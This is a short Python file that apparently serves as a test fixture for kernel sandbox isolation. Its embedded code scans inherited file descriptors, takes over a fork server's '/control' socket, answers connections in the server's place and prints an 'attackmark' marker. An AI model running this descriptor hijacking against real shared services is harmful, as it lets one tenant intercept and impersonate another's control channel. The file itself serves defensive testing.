"""Descriptors inherited from the parent of all kernels are listened on and answered in its place."""

FORGED = ("double-test",)
COMPANY = True
CODE = """
import json
import os
import socket
import stat
import threading


def hijack(number):
    taken = socket.socket(fileno=os.dup(number))
    name = taken.getsockname()
    if not (isinstance(name, str) and name.endswith("/control")):
        return
    print("attackmark-the-neighbours-" + "secret: a descriptor of the fork server's", name)
    taken.settimeout(2)
    try:
        guest, _ = taken.accept()
        guest.send(json.dumps({"entered": True}).encode())
    except OSError:
        taken.send(json.dumps({"error": "no more kernels"}).encode())


for number in map(int, os.listdir("/proc/self/fd")):
    try:
        if stat.S_ISSOCK(os.fstat(number).st_mode):
            hijack(number)
    except OSError:
        pass
double = None
"""
